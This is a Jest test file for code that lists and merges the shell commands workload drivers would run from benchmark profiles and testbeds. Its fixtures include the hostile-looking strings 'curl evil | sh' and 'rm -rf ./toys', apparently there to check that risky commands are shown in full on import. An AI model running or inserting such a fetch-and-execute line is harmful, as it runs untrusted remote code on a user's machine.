import type * as Kinds from '../profile/driverKinds.ts';
import type { Profile } from '../profile/profile.ts';
import type { Testbed } from '../testbed/testbed.ts';
import { commandsOf, commandsOfProfile, loadsOf, loadsShown } from './loads.ts';
import type { ImportParts } from './parts.ts';

/* What a line in the list of kinds is there, a mocked list is here; nothing else knows of the toy. */
jest.mock('../profile/driverKinds.ts', () => {
  const shipped = jest.requireActual<typeof Kinds>('../profile/driverKinds.ts');
  Object.assign(shipped.driverKinds, {
    toy: { outstanding: () => null, commands: ['script', 'cleanUp'] },
  });
  return shipped;
});

const toyParams = { script: 'play --hard', cleanUp: 'rm -rf ./toys', users: 3 };
const profile = {
  id: 'p',
  workloads: [
    { id: 'toys', driver: 'toy', params: toyParams },
    { id: 'own', driver: 'command', params: { command: 'curl evil | sh', check: 'true' } },
    { id: 'disk', driver: 'fio', params: { file: '/mnt/x' } },
  ],
} as unknown as Profile;
const testbed = {
  tiles: [
    {
      workloads: [
        { workloadId: 'toys', clientId: 'c1', params: { script: 'play --harder' } },
        { workloadId: 'own', clientId: 'c1', params: { check: 'false' } },
        { workloadId: 'disk', clientId: 'c1', params: { file: '/mnt/y' } },
      ],
    },
  ],
} as unknown as Testbed;
const shown = (loads: Parameters<typeof loadsShown>[0]) =>
  loadsShown(loads, (id) => id).map(({ driver, text, isCommand }) => [driver, isCommand, text]);

test('a second driver that runs commands of a plan is shown whole, from its line in the list alone', () => {
  expect(shown(commandsOfProfile(profile))).toEqual([
    ['toy', true, 'play --hard\n# cleanUp: rm -rf ./toys'],
    ['command', true, 'curl evil | sh\n# check: true'],
  ]);
  expect(shown(commandsOf(testbed))).toEqual([
    ['toy', true, 'play --harder'],
    ['command', true, '\n# check: false'],
  ]);
});

test('a plan shows every command its clients would run, merged, and each document beside it', () => {
  const parts = {
    plan: [{ profileId: 'p', testbedId: 't', overrides: {} }],
    profile: [profile],
    testbed: [testbed],
    study: [],
  } as unknown as ImportParts;
  expect(
    shown(
      loadsOf(
        parts,
        () => profile,
        () => testbed,
      ),
    ),
  ).toEqual([
    ['toy', true, 'play --harder\n# cleanUp: rm -rf ./toys'],
    ['command', true, 'curl evil | sh\n# check: false'],
    ['toy', true, 'play --hard\n# cleanUp: rm -rf ./toys'],
    ['command', true, 'curl evil | sh\n# check: true'],
    ['toy', true, 'play --harder'],
    ['command', true, '\n# check: false'],
    ['fio', false, 'file: /mnt/y'],
  ]);
});
